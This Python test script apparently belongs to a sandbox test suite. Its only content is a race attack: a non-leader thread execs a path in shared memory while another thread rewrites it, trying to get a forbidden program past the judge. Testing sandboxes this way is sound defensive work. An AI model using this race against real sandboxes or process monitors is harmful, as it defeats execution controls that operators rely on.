"""A thread that is not the first one execs while another rewrites the path."""

import os
import threading
import time

from attack import LIBC, SECONDS, WORK, main
from race import Race, shared_memory

FORBIDDEN = 42
PROMISE = "a program that is not the judged one is killed, whichever thread ran it"
CONTROL = "the forbidden program runs"
ADVICE = "report it: a thread that execs takes its leader's id"


def execute(race: Race) -> None:
    LIBC.execve(race.memory_pointer(), None, None)
    os._exit(1)


def attempt() -> bool:
    race = Race(f"{WORK}/bin/tool1", f"{WORK}/bin/tool0", shared_memory())
    race.by_thread()
    end = time.monotonic() + SECONDS
    while time.monotonic() < end:
        child = os.fork()
        if child == 0:
            thread = threading.Thread(target=execute, args=(race,))
            thread.start()
            thread.join()
        status = os.waitpid(child, 0)[1]
        if os.WIFEXITED(status) and os.WEXITSTATUS(status) == FORBIDDEN:
            return True
    return False


main(attempt)
